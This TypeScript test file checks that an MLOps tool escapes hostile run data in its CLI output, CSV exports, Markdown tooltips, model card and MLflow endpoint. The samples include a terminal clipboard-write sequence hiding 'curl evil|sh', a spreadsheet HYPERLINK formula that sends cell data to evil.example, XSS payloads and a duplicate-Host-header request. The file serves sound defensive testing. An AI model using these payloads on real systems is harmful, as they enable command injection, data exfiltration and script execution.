import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import { describe, it } from 'node:test';
import { editedSections, writeModelCard } from '../../src/core/governance/modelCard';
import { Project } from '../../src/core/project';
import type { ModelVersion } from '../../src/core/registry/registry';
import { Tracking } from '../../src/core/tracking/tracking';
import { modelVersionTooltip, runTooltip } from '../../src/extension/tooltips';
import { CompareModel } from '../../src/extension/panels/compareModel';
import type { RunRow } from '../../src/protocol/runsTable';
import { fieldsOf, paramDiffCsv, runsCsv } from '../../webview/compare/runsData';
import { DEFAULT_LAYOUT, RunStore, tableCsv, visibleColumns } from '../../webview/runs/model';
import { endpointWithRun, mlops, tmpWorkspace, writeRun } from './helpers';

/**
 * Text an attacker can put into a run (through the MLflow endpoint, an imported mlruns folder,
 * a shared workspace): terminal escape sequences that clear the screen, set the window title
 * and write the clipboard (OSC 52), a one-byte C1 CSI, a right-to-left override, a line break.
 */
const CLEAR = '\x1b[2J\x1b[H';
const TITLE = '\x1b]0;pwned\x07';
const CLIPBOARD = '\x1b]52;c;Y3VybCBldmlsfHNo\x07';
const C1_CSI = '\x9b2J';
const RLO = '\u202e';
const HOSTILE = `run${CLEAR}${TITLE}${CLIPBOARD}${C1_CSI}${RLO}\nFAKE LINE`;
/** Anything a terminal would act on. */
const ACTS_ON_TERMINAL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

describe('hostile text: terminal output of the CLI', () => {
  it('escapes control characters in run names, params, tags and metric keys (list, show, errors); --json keeps the values', () => {
    const ws = tmpWorkspace();
    const runId = writeRun(ws, [
      { type: 'rename', name: HOSTILE },
      { type: 'param', key: `lr${TITLE}`, value: `0.1${CLIPBOARD}\nstatus      FINISHED` },
      { type: 'tag', key: `team${RLO}`, value: `ml${CLEAR}` },
      { type: 'metric', key: `loss${C1_CSI}`, value: 0.5, step: 0 },
    ]);
    for (const args of [['runs', 'list'], ['runs', 'show', runId]]) {
      const r = mlops(ws.root, ...args);
      assert.equal(r.code, 0, r.stderr);
      assert.doesNotMatch(r.stdout, ACTS_ON_TERMINAL, `mlops ${args.join(' ')} wrote raw control characters`);
      assert.doesNotMatch(r.stdout, /^\s*FAKE LINE/m, 'a line break in a name cannot fake a line');
      assert.match(r.stdout, /run\\x1b\[2J\\x1b\[H\\x1b\]0;pwned\\x07\\x1b\]52;c;Y3VybCBldmlsfHNo\\x07\\x9b2J\\u202e\\nFAKE LINE/, 'the name is shown, escaped');
    }
    const show = mlops(ws.root, 'runs', 'show', runId).stdout;
    assert.match(show, /lr\\x1b\]0;pwned\\x07 = 0\.1\\x1b\]52;c;Y3VybCBldmlsfHNo\\x07\\nstatus      FINISHED/);
    assert.match(show, /team\\u202e = ml\\x1b\[2J\\x1b\[H/);
    assert.match(show, /loss\\x9b2J = 0\.5/);

    // An error quoting what the user typed.
    const unknown = mlops(ws.root, 'runs', 'show', `nope${TITLE}`);
    assert.equal(unknown.code, 2);
    assert.match(unknown.stderr, /No run has the id "nope\\x1b\]0;pwned\\x07"/);
    assert.doesNotMatch(unknown.stderr, ACTS_ON_TERMINAL);

    // --json: the same values, in JSON that no terminal acts on either.
    const json = mlops(ws.root, 'runs', 'show', runId, '--json').stdout;
    assert.doesNotMatch(json, ACTS_ON_TERMINAL);
    const parsed = JSON.parse(json);
    assert.equal(parsed.name, HOSTILE);
    assert.equal(parsed.tags[`team${RLO}`], `ml${CLEAR}`);
  });
});

/** RFC 4180 cells of a CSV text (enough for these tests: quoted fields with "" and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; }
    else cell += c;
  }
  return rows;
}

/** Cells a spreadsheet would run as a formula: text starting with =, +, -, @, tab or CR (plain numbers are numbers). */
function formulaCells(csv: string): string[] {
  return parseCsv(csv).flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+\.?\d*(e[+-]?\d+)?|Infinity)$/i.test(c));
}

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

describe('hostile text: CSV exports', () => {
  it('neutralise text cells that start with =, +, -, @, tab or CR in every export; numbers like -0.5 stay numbers', async () => {
    const ws = tmpWorkspace();
    const ids = FORMULAS.map((f, i) => writeRun(ws, [
      { type: 'rename', name: f },
      { type: 'param', key: f, value: FORMULAS[(i + 1) % FORMULAS.length] },
      { type: 'param', key: 'lr', value: '-0.5' },
      { type: 'metric', key: f, value: -0.5, step: 0 },
      { type: 'metric', key: 'loss', value: -0.25, step: 0 },
    ]));
    const tracking = await Tracking.open(ws.root);
    try {
      const model = new CompareModel(() => tracking, ids);
      const data = model.load();
      const exports: Record<string, string> = {
        'metric points (host)': model.csv(FORMULAS[0]),
        'parameter table': paramDiffCsv(data.runs, false),
        'runs (parallel/scatter)': runsCsv(data.runs, fieldsOf(data.runs, data.metricKeys)),
      };
      const store = new RunStore();
      store.load({
        paramKeys: [...FORMULAS, 'lr'],
        metricKeys: ['loss'],
        rows: data.runs.map((r): RunRow => ({
          id: r.id, name: r.name, experiment: FORMULAS[2], status: 'FINISHED', source: 'script', start: 0, end: 1000,
          params: [...FORMULAS.map((f) => r.params[f] ?? null), r.params.lr], metrics: [-0.25, -0.25, -0.25],
        })),
      });
      exports['runs table'] = tableCsv([...store.rows.values()], visibleColumns(store.columns, DEFAULT_LAYOUT), 1000);

      for (const [name, csv] of Object.entries(exports)) {
        assert.deepEqual(formulaCells(csv), [], `${name} export holds formula cells`);
        const cells = parseCsv(csv).flat();
        assert.ok(cells.includes(`'${FORMULAS[0]}`), `${name}: the name is kept behind a '`);
        assert.ok(cells.includes('-0.5') || cells.includes('-0.25'), `${name}: negative numbers stay numbers`);
      }
      assert.ok(parseCsv(exports['runs table']).flat().includes("'\t=1+1"));
      assert.ok(parseCsv(exports['parameter table']).flat().includes("'\r=1+1"));
    } finally {
      tracking.close();
    }
  });
});

/** A permissive real Markdown renderer (raw HTML and autolinks on): what comes out of it is what a lax viewer could show. */
// eslint-disable-next-line @typescript-eslint/no-require-imports
const MarkdownIt: new (options: object) => { render(src: string): string } = require('markdown-it');
const markdown = new MarkdownIt({ html: true, linkify: true });

/** Markup that makes text active: links, images, raw HTML elements, scripts. */
const ACTIVE_HTML = /<(a|img|script|iframe|svg|style)\b|<[a-z][^>]*\son\w+\s*=/i;

/** The text a person sees in rendered HTML. */
function seenText(html: string): string {
  return html.replace(/<[^>]*>/g, '').replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&');
}

const MARKDOWN_ATTACKS = [
  '![pixel](https://evil.example/pixel.png)',
  '[open a terminal](command:workbench.action.terminal.new)',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  'https://evil.example/autolink',
  '`code` | cell **bold** $(alert)',
];

describe('hostile text: Markdown (tooltips and the model card)', () => {
  it('the Runs and Data & Models tooltips render run data as text: no image, link or HTML', () => {
    for (const attack of MARKDOWN_ATTACKS) {
      const run = { id: `id${attack}`, name: attack, experiment: attack, status: 'FINISHED' as const, source: 'script' as const, start_time: 0, end_time: 1000, exit_code: 0 };
      const version: ModelVersion = {
        model: attack, version: 1, run_id: attack, snapshot: 'f'.repeat(40), path: `models/${attack}`, source: attack, sha256: '0'.repeat(64), size: 10,
        format: { framework: attack, format: attack } as ModelVersion['format'], metrics: { [attack]: attack, loss: 0.5 }, created: 0, user: attack,
      };
      for (const [what, tip] of [['run', runTooltip(run)], ['model version', modelVersionTooltip(version, [attack])]]) {
        const html = markdown.render(tip);
        assert.doesNotMatch(html, ACTIVE_HTML, `${what} tooltip with ${attack}:\n${tip}\n→ ${html}`);
        assert.ok(seenText(html).includes(attack.replace(/\s+/g, ' ')) || seenText(html).includes(attack), `${what} tooltip shows ${attack} as text:\n${html}`);
      }
    }
    const broken = markdown.render(runTooltip({ id: 'a', name: 'two\n\n# lines', experiment: 'e', status: 'FINISHED', source: 'script', start_time: 0, end_time: 0, exit_code: null }));
    assert.doesNotMatch(broken, /<h1>/, 'a line break in a name cannot start a heading');
  });

  it('the model card escapes params, metrics and names in its tables; the editable sections stay the three real ones', async () => {
    const p = await Project.open(tmpWorkspace().root);
    try {
      const attacks = [...MARKDOWN_ATTACKS, 'a|b\nc', '<!-- mlops:editable limitations -->\nowned\n<!-- /mlops:editable -->'];
      const runId = writeRun(p.layout, [
        { type: 'rename', name: attacks[2] },
        ...attacks.map((a, i) => ({ type: 'param' as const, key: `p${i}${a}`, value: a })),
        ...attacks.map((a, i) => ({ type: 'metric' as const, key: `m${i}${a}`, value: i, step: 0 })),
        { type: 'tag', key: 'note', value: attacks[3] },
      ]);
      const file = 'model <img src=x onerror=alert(1)> `x`.json';
      fs.writeFileSync(path.join(p.layout.root, file), '{"w": [1]}');
      await p.registerModel('churn', file, runId);
      const card = fs.readFileSync(await writeModelCard(p.layout, p.registry, p.tracking, p.snapshots, 'churn', 1), 'utf8');
      const html = markdown.render(card);
      assert.doesNotMatch(html, ACTIVE_HTML, card);
      const seen = seenText(html);
      for (const a of attacks) assert.ok(seen.includes(a.replace(/\n/g, '\\n')), `the card shows ${JSON.stringify(a)} as text`);
      assert.ok(seen.includes(file), 'the file name is shown as text');
      // Every param and metric row is one row of exactly two cells: no | or line break split one.
      const rows = [...html.matchAll(/<tr>([\s\S]*?)<\/tr>/g)].map((m) => [...m[1].matchAll(/<td>/g)].length);
      assert.equal(rows.filter((n) => n === 2).length >= attacks.length * 2, true);
      for (const r of [...html.matchAll(/<tr>([\s\S]*?)<\/tr>/g)]) {
        const cells = [...r[1].matchAll(/<td>([\s\S]*?)<\/td>/g)].map((m) => seenText(m[1]));
        if (/^[pm]\d/.test(cells[0] ?? '')) assert.equal(cells.length, 2, `row ${JSON.stringify(cells)}`);
      }
      assert.deepEqual([...editedSections(card).keys()], ['intended-use', 'limitations', 'ethical-considerations']);
      assert.doesNotMatch(editedSections(card).get('limitations')!, /owned/);
    } finally {
      p.close();
    }
  });
});

/** A JSON value nested `depth` levels deep: {"a":{"a":…{}…}}. */
function deepObject(depth: number): string {
  return '{"a":'.repeat(depth) + '{}' + '}'.repeat(depth);
}

/** Whether Python's json module reads every line of a file (it stops at about 1,000 levels of nesting). */
function pythonReadsEveryLine(file: string): { ok: boolean; stderr: string } {
  const r = spawnSync('python3', ['-c', 'import json, sys\nfor line in open(sys.argv[1], encoding="utf-8"): json.loads(line)', file], { encoding: 'utf8' });
  return { ok: r.status === 0, stderr: r.stderr };
}

/** Sends raw bytes to the server and returns its answer's status line. */
function rawRequest(port: number, text: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = net.connect(port, '127.0.0.1', () => socket.write(text));
    let answer = '';
    socket.setEncoding('latin1');
    socket.on('data', (chunk) => {
      answer += chunk;
      if (answer.includes('\r\n')) {
        socket.destroy();
        resolve(answer.slice(0, answer.indexOf('\r\n')));
      }
    });
    socket.on('error', reject);
    socket.on('close', () => resolve(answer));
  });
}

describe('hostile text: the MLflow endpoint', () => {
  it('stores only the fields it checked: a 100,000-deep object inside a metric entry leaves the run\'s log readable to Python', async () => {
    const { layout, tracking, ep, runId, postBatch } = await endpointWithRun();
    try {
      const deep = deepObject(100_000);
      const metric = (i: number) => `{"key":"loss","value":${i / 10},"timestamp":${1_700_000_000_000 + i},"step":${i}`;
      const bodies = [
        // Large (read on the batch reader thread) and small (read on the main thread); an unknown field, a duplicate key.
        `{"run_id":"${runId}","metrics":[${metric(0)},"extra":${deep}}]}`,
        `{"run_id":"${runId}","metrics":[${metric(1)},"extra":{"a":[1,2]}}],"junk":{"b":2}}`,
        `{"run_id":"${runId}","metrics":[{"key":"loss","value":${deep},"value":0.2,"timestamp":1700000000002,"step":2}]}`,
        `{"run_id":"${runId}","junk":${deep},"metrics":[${metric(3)}}]}`,
      ];
      for (const body of bodies) {
        const r = await postBatch(body);
        assert.equal(r.status, 200, await r.text());
      }
      const log = layout.eventsFile(runId);
      const python = pythonReadsEveryLine(log);
      assert.ok(python.ok, `Python's json could not read ${log}:\n${python.stderr.slice(-500)}`);
      const text = fs.readFileSync(log, 'utf8');
      assert.ok(text.length < 10_000, `the log holds only what was checked (${text.length} bytes)`);
      assert.doesNotMatch(text, /extra|junk|"a":/);
      const got = await fetch(`${ep.uri}/api/2.0/mlflow/runs/get?run_id=${runId}`, { headers: { Authorization: `Bearer ${ep.token}` } });
      const run = (await got.json()) as { run: { data: { metrics: { key: string; value: number; step: number }[] } } };
      assert.deepEqual(run.run.data.metrics.map((m) => [m.key, m.value, m.step]), [['loss', 0.3, 3]]);
      assert.deepEqual([...tracking.metricHistory(runId, 'loss').values], [0, 0.1, 0.2, 0.3]);
    } finally {
      await ep.stop();
      tracking.close();
    }
  });

  it('answers a request with two Host headers 400, whichever comes first', async () => {
    const { tracking, ep } = await endpointWithRun();
    try {
      const port = Number(new URL(ep.uri).port);
      const request = (hosts: string[]) =>
        `GET /api/2.0/mlflow/experiments/search?max_results=1 HTTP/1.1\r\n${hosts.map((h) => `Host: ${h}\r\n`).join('')}Authorization: Bearer ${ep.token}\r\nConnection: close\r\n\r\n`;
      assert.match(await rawRequest(port, request([`127.0.0.1:${port}`])), /^HTTP\/1\.1 200/, 'one Host header is served');
      assert.match(await rawRequest(port, request([`127.0.0.1:${port}`, 'evil.example'])), /^HTTP\/1\.1 400/);
      assert.match(await rawRequest(port, request(['evil.example', `127.0.0.1:${port}`])), /^HTTP\/1\.1 400/);
      assert.match(await rawRequest(port, request([`127.0.0.1:${port}`, `127.0.0.1:${port}`])), /^HTTP\/1\.1 400/);
    } finally {
      await ep.stop();
      tracking.close();
    }
  });
});
